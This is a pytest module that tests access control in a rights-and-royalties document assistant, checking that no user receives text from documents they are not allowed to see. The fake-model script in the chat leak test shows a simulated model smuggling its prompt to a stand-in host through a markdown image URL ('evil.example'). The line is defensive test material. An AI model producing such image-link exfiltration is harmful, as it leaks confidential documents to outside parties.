"""Access control as a property, over the paths adversarial testing used: symbolic links, sidecar
edge cases, cross-document warnings, uploads and streamed drafts.

A seeded generator lays out a folder of documents whose access is declared every way the
product accepts (sidecars, folder rules, empty and comment-only declarations, links into and out
of restricted folders) and writes down, on its own, who may see each one: the intersection of
the groups of every rule it placed (an empty rule: administrators only). Record files share
identifiers across access groups, so duplicate-identifier warnings have something to leak.
Every document's text, title and file name carry its marker (ZQ007X); any marker of a document
the oracle hides from a user, found in anything that user receives, is a leak.
"""

from __future__ import annotations

import json
import random
import re

import pytest
from ollama_fake import Script
from test_security import fetches

from assistant.answer.answering import Source
from assistant.contracts.register import register_rows
from assistant.ops import audit
from assistant.service import RightsService
from assistant.settings import LLMSettings, Settings
from assistant.web.app import ChatSession, documents_rows, sources_html
from assistant.web.auth import Users
from assistant.web.contracts_tab import clause_html, deadlines_html

SEED = 20261201
GROUPS = ["legal", "finance", "sales", "hr", "sync"]
MARKER = re.compile(r"ZQ\d{3}X")
ADMIN = "*"


def iswc(n: int) -> str:
    digits = f"{n:09d}"
    check = (10 - (1 + sum(int(d) * i for i, d in enumerate(digits, 1))) % 10) % 10
    return f"T-{digits[:3]}.{digits[3:6]}.{digits[6:]}-{check}"


SHARED_ISWCS = [iswc(345246800 + 7 * i) for i in range(4)]


def generate(rng: random.Random, root):
    """Lay out the documents; return {marker: allowed groups (None = everyone)}, users."""
    oracle: dict[str, set[str] | None] = {}
    docs = root / "docs"
    outside = root / "outside"
    outside.mkdir(parents=True)
    folders = {}
    for g in GROUPS:  # a restricted folder per group, declared by a folder rule
        folders[g] = docs / f"team-{g}"
        folders[g].mkdir(parents=True)
        (folders[g] / ".access").write_text(f"# team folder\n{g}\n")
    (docs / "open").mkdir()
    (docs / "limbo").mkdir()
    (docs / "limbo" / ".access").write_text("# groups to be decided\n")  # comment-only: fail closed

    def text_of(code: str, record: bool) -> str:
        if record:
            title = f"Song {code}"
            return f"Title,ISWC,Writer,Share\n{title},{rng.choice(SHARED_ISWCS)},Writer {code},100%\n"
        return (f"AGREEMENT {code}\n1. Parties. The Label and artist {code} agree.\n"
                f"2. Royalty. The royalty for {code} is {rng.randint(5, 30)}% and the codeword is {code}.\n")

    for i in range(36):
        code = f"ZQ{i:03d}X"
        record = i % 3 == 0
        name = f"doc-{code}.{'csv' if record else 'txt'}"
        how = rng.choice(["public", "sidecar", "folder", "folder+sidecar", "empty-sidecar", "limbo",
                          "link-in", "link-out", "link-sidecar"])
        if how == "public":
            path, allowed = docs / "open" / name, None
        elif how == "sidecar":
            gs = set(rng.sample(GROUPS, rng.choice([1, 2])))
            path, allowed = docs / "open" / name, gs
            (docs / "open" / f"{name}.groups").write_text(", ".join(sorted(gs)))
        elif how == "folder":
            g = rng.choice(GROUPS)
            path, allowed = folders[g] / name, {g}
        elif how == "folder+sidecar":  # a sidecar cannot widen its folder's rule
            g = rng.choice(GROUPS)
            gs = set(rng.sample(GROUPS, 2))
            path, allowed = folders[g] / name, {g} & gs
            (folders[g] / f"{name}.groups").write_text("\n".join(sorted(gs)))
        elif how == "empty-sidecar":
            path, allowed = docs / "open" / name, set()
            (docs / "open" / f"{name}.groups").write_text(rng.choice(["", "\n", "# nobody yet\n"]))
        elif how == "limbo":
            path, allowed = docs / "limbo" / name, set()
        elif how == "link-in":  # the file in a restricted folder, a link to it from the open folder
            g = rng.choice(GROUPS)
            path, allowed = folders[g] / name, {g}
            (docs / "open" / f"link-{name}").symlink_to(path)
        elif how == "link-sidecar":  # a link with its own sidecar, to a public file
            path = docs / "open" / name
            gs = set(rng.sample(GROUPS, 1))
            link = docs / "open" / f"link-{name}"
            link.symlink_to(path)
            (docs / "open" / f"link-{name}.groups").write_text(" ".join(gs))
            allowed = gs
        else:  # link-out: the target is outside the ingested folder; the link sits in a team folder
            g = rng.choice(GROUPS)
            path = outside / name
            (folders[g] / f"link-{name}").symlink_to(path)
            allowed = "never"  # refused by default: must never be stored
        path.write_text(text_of(code, record))
        oracle[code] = allowed
    users = {f"u{n:02d}": sorted(rng.sample(GROUPS, rng.choice([0, 1, 1, 2]))) for n in range(10)}
    users["boss"] = [ADMIN]
    return docs, oracle, users


def may_see(allowed, groups: list[str]) -> bool:
    if allowed == "never":
        return False
    if ADMIN in groups:
        return True
    return allowed is None or bool(allowed & set(groups))


@pytest.fixture(scope="module")
def world(tmp_path_factory, fast_embedder):
    rng = random.Random(SEED)
    root = tmp_path_factory.mktemp("paths")
    docs, oracle, users = generate(rng, root)
    settings = Settings(data_dir=root / "data")
    with RightsService(settings, embedder=fast_embedder) as svc:
        report = svc.ingest([docs])
    assert not [r for r in report.problems if "outside the folder" not in (r.reason or "")], report.problems
    return settings, oracle, users, rng


def leaks(texts, oracle, groups, own: str = "") -> set[str]:
    found = {m for t in texts for m in MARKER.findall(str(t).replace(own, ""))}
    return {m for m in found if not may_see(oracle[m], groups)}


def test_the_store_holds_exactly_what_the_oracle_allows(world, fast_embedder):
    settings, oracle, users, _ = world
    with RightsService(settings, embedder=fast_embedder) as svc:
        stored = {MARKER.search(d.file_name).group(0): d for d in svc.sources()}
        assert set(stored) == {c for c, a in oracle.items() if a != "never"}
        for user, groups in users.items():
            listed = {MARKER.search(d.file_name).group(0) for d in svc.restricted(groups).sources()}
            assert listed == {c for c, a in oracle.items() if may_see(a, groups)}, (user, groups)


def test_nobody_receives_a_marker_they_may_not_see(world, fast_embedder, fake):
    settings, oracle, users, rng = world
    chat_settings = settings.model_copy(update={"llm": LLMSettings(backend="ollama", ollama_host=fake.url)})
    # A model that repeats its prompt and tries to smuggle it out through a reference image.
    fake.script = Script(reply=lambda body: ("Sources: " + body["messages"][1]["content"].replace("\n", " ")
                                             + " ![c][r] [1]\n\n[r]: //evil.example/p.png?d=" + body["messages"][1]["content"][:80].replace("\n", " ")))
    registry = Users({u: {"password": "-", "groups": g} for u, g in users.items()})
    codes = sorted(oracle)
    checked = registered = 0
    with RightsService(chat_settings, embedder=fast_embedder) as svc:
        session = ChatSession(svc, users=registry)
        for user, groups in users.items():
            view = session.view(user)
            rows = documents_rows(view)
            assert not leaks([rows], oracle, groups), (user, groups)
            # the register, its deadlines and every clause it can open: key terms are document text too
            register = register_rows(view)
            contracts = [json.dumps([r.cells for r in register]), json.dumps([r.terms.as_dict() for r in register]),
                         deadlines_html(view, 100_000)]
            contracts += [clause_html(view, r.family, column) for r in register for column in r.cells]
            assert not leaks(contracts, oracle, groups), (user, groups, "register")
            registered += len(register)
            for _ in range(3):
                code = rng.choice(codes)
                question = rng.choice([f"What is the royalty for {code}?", f"Who wrote {rng.choice(SHARED_ISWCS)}?",
                                       "List every agreement and song", f"codeword {code}"])
                hits = view.retrieve(question, 8)
                cross = view.duplicate_warnings([h.payload for h in hits])
                panel = sources_html(None, [Source(i, h) for i, h in enumerate(hits, 1)], cross)
                steps = list(session.respond(question, [], user=user))
                streamed = [t[-1]["content"] for t, _ in steps if t]
                panels = [p for _, p in steps if p]
                entry = list(audit.read(chat_settings.audit_path))[-1]
                assert entry["user"] == user
                received = [panel, json.dumps(cross), *streamed, *panels, json.dumps(entry, ensure_ascii=False)]
                bad = leaks(received, oracle, groups, own=question)
                assert not bad, f"{user} ({groups}) asked {question!r} and received {sorted(bad)}"
                assert not any(fetches(t) for t in streamed), "a streamed turn would make the browser fetch"
                checked += 1
    assert checked == 3 * len(users)
    assert registered, "no contract reached the register: the register check above proved nothing"


def test_uploads_report_and_list_only_what_the_uploader_may_see(world, fast_embedder, tmp_path):
    settings, oracle, users, rng = world
    registry = Users({u: {"password": "-", "groups": g} for u, g in users.items()})
    with RightsService(settings, embedder=fast_embedder) as svc:
        session = ChatSession(svc, users=registry)
        for n, (user, groups) in enumerate(list(users.items())[:6]):
            upload = tmp_path / f"mine-{n}.csv"
            upload.write_text("Title,ISWC,Writer,Share\n" + "".join(
                f"Upload {n} song {k},{code},Someone,100%\n" for k, code in enumerate(SHARED_ISWCS)))
            job = session.upload([(upload.name, upload)], user=user)
            assert job.finished.wait(180) and job.report is not None
            received = [job.summary(), documents_rows(session.view(user))]
            assert not leaks(received, oracle, groups), (user, groups, received[0])
            sees_a_record = any(may_see(a, groups) and int(c[2:5]) % 3 == 0 for c, a in oracle.items())
            assert ("duplicate ISWC" in received[0]) == sees_a_record, (user, groups, received[0])


def test_catalog_questions_checks_and_conflicts_show_only_what_the_user_may_see(world, fast_embedder, fake):
    """The records table is a second way out for document text: catalog answers, the Conflicts
    tab, its checks, lookups and the conflict line under an answer. The world's record files give
    several works one ISWC with different writers across access groups, so conflicts exist to leak."""
    from assistant.catalog.conflicts import conflicts
    from assistant.catalog.questions import answer as catalog_answer
    from assistant.web.catalog_tab import CHECKS, check_html, conflicts_table

    settings, oracle, users, rng = world
    chat_settings = settings.model_copy(update={"llm": LLMSettings(backend="ollama", ollama_host=fake.url)})
    fake.script = Script(reply="See [1].")
    registry = Users({u: {"password": "-", "groups": g} for u, g in users.items()})
    record_codes = sorted(c for c in oracle if int(c[2:5]) % 3 == 0)
    questions = ["which works' shares don't total 100%?", "which works have conflicting sources?",
                 "how many works do we have?", "which works are missing an IPI?"]
    questions += [f"which works does Writer {c} have with us?" for c in record_codes]
    questions += [f"who wrote {code}?" for code in SHARED_ISWCS]
    seen_conflicts = 0
    with RightsService(chat_settings, embedder=fast_embedder) as svc:
        assert conflicts(svc.catalog()), "no conflict among the record files: this test would prove nothing"
        session = ChatSession(svc, users=registry)
        for user, groups in users.items():
            view = session.view(user)
            catalog = view.catalog()
            found = conflicts(catalog)
            seen_conflicts += len(found)
            received = [json.dumps(conflicts_table(view)), json.dumps([c.as_dict() for c in found])]
            received += [check_html(view, check) for _, check in CHECKS]
            received += [json.dumps([r.as_dict() for r in catalog.search("Song", 500).rows]),
                         json.dumps([r.as_dict() for r in catalog.all_rows()]), json.dumps(catalog.count())]
            received += [json.dumps([r.as_dict() for r in catalog.lookup(code).rows]) for code in SHARED_ISWCS]
            bad = leaks(received, oracle, groups)
            assert not bad, f"{user} ({groups}) received {sorted(bad)} from the catalog"
            for question in questions:  # a question may name a marker itself: that echo is not a leak
                direct = catalog_answer(view, question)
                answers = [] if direct is None else [direct.text, json.dumps([r.as_dict() for r in direct.rows])]
                bad = leaks(answers, oracle, groups, own=question)
                assert not bad, f"{user} ({groups}) asked {question!r} and received {sorted(bad)}"
            for question in rng.sample(questions, 3):
                steps = list(session.respond(question, [], user=user))
                answers = [t[-1]["content"] for t, _ in steps if t] + [p for _, p in steps if p]
                answers.append(json.dumps(list(audit.read(chat_settings.audit_path))[-1], ensure_ascii=False))
                bad = leaks(answers, oracle, groups, own=question)
                assert not bad, f"{user} ({groups}) asked {question!r} in the chat and received {sorted(bad)}"
    assert seen_conflicts, "no user saw any conflict: the conflict paths were not exercised"
